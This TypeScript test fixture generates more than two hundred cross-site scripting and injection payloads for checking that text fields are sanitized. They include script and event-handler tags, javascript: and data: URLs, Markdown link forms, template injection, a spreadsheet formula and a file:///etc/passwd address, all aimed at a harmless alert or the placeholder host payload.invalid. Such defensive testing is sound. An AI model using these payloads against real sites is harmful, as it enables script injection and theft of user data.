/** What every payload would do if it ran: open a window that a test hears of. */
const deed = 'alert(1)';
/** Where a payload would send for something; a test fails when anything asks for it. */
export const foreignHost = 'payload.invalid';

/** Elements that run something by themselves or on the least occasion. */
const elements = [
  `<script>${deed}</script>`,
  `<ScRiPt >${deed}</sCrIpT >`,
  `<script src=https://${foreignHost}/a.js></script>`,
  `<script\n>${deed}</script\n>`,
  `<img src=x onerror=${deed}>`,
  `<img src="https://${foreignHost}/a.png">`,
  `<img/src=x/onerror=${deed}>`,
  `<svg onload=${deed}>`,
  `<svg><script>${deed}</script></svg>`,
  `<svg><a xlink:href="javascript:${deed}"><text>go</text></a></svg>`,
  `<svg><animate onbegin=${deed} attributeName=x dur=1s></svg>`,
  `<svg><use href="https://${foreignHost}/a.svg#x"></svg>`,
  `<math><a href="javascript:${deed}">go</a></math>`,
  `<iframe src="javascript:${deed}"></iframe>`,
  `<iframe srcdoc="<script>${deed}</script>"></iframe>`,
  `<object data="javascript:${deed}"></object>`,
  `<embed src="https://${foreignHost}/a.swf">`,
  `<details open ontoggle=${deed}>`,
  `<body onload=${deed}>`,
  `<input autofocus onfocus=${deed}>`,
  `<video><source onerror=${deed}></video>`,
  `<audio src=x onerror=${deed}>`,
  `<marquee onstart=${deed}>`,
  `<form action="https://${foreignHost}/take"><button>Send</button></form>`,
  `<button formaction="javascript:${deed}">Send</button>`,
  `<base href="https://${foreignHost}/">`,
  `<link rel=stylesheet href="https://${foreignHost}/a.css">`,
  `<meta http-equiv=refresh content="0;url=https://${foreignHost}/">`,
  `<style>@import "https://${foreignHost}/a.css";</style>`,
  `<div style="background:url(https://${foreignHost}/a.png)">`,
  `<template><script>${deed}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
];

/** Ends of what the text may stand in. */
const exits = ['', '">', "'>", '</textarea>', '</title>', '</script>', '-->', ']]>'];

/** Addresses that do something when they are followed or loaded. */
const addresses = [
  `javascript:${deed}`,
  `JaVaScRiPt:${deed}`,
  ` javascript:${deed}`,
  `java\tscript:${deed}`,
  `&#106;avascript:${deed}`,
  `&#x6A;avascript&colon;${deed}`,
  `javascript&#58;${deed}`,
  `javascript://%0a${deed}`,
  `data:text/html,<script>${deed}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:${deed}`,
  `blob:https://${foreignHost}/1`,
  `file:///etc/passwd`,
  `//${foreignHost}/a`,
  `\\\\${foreignHost}\\a`,
];

/** Markdown that leads to an address. */
const ways: ((address: string) => string)[] = [
  (address) => `[go](${address})`,
  (address) => `[go](<${address}>)`,
  (address) => `![go](${address})`,
  (address) => `<${address}>`,
  (address) => `[go][1]\n\n[1]: ${address}`,
  (address) => `<a href="${address}">go</a>`,
  (address) => `# [go](${address} "title")`,
];

/** Places in Markdown where HTML may be taken for HTML. */
const places: ((html: string) => string)[] = [
  (html) => `> ${html}`,
  (html) => `- ${html}`,
  (html) => `# ${html}`,
  (html) => `| a | ${html} |\n| - | - |\n| b | c |`,
  (html) => `[${html}](https://example.org)`,
  (html) => `**${html}**`,
];

/** What is read by something else than HTML: templates, JSON in a page, spreadsheets. */
const others = [
  `'-${deed}-'`,
  `";${deed};//`,
  `\`;${deed};//`,
  `\${${deed}}`,
  `{{constructor.constructor('${deed}')()}}`,
  `</script><script>${deed}</script>`,
  `<\\/script><script>${deed}</script>`,
  `\u2028${deed}\u2029`,
  `=HYPERLINK("https://${foreignHost}/","go")`,
  `<!--><script>${deed}</script>-->`,
  `<![CDATA[<script>${deed}</script>]]>`,
  `<p title="\u202e>${deed}">`,
  `\u202e<script>${deed}</script>`,
];

/**
 * Texts that would run script, load something or lead astray where a page took them for more than
 * text: more than two hundred, each accepted by the fields as text.
 */
export const payloads: readonly string[] = [
  ...new Set([
    ...exits.flatMap((exit) => elements.map((element) => exit + element)),
    ...ways.flatMap((way) => addresses.map(way)),
    ...places.flatMap((place) => elements.slice(0, 12).map((element) => place(element))),
    ...others,
  ]),
];
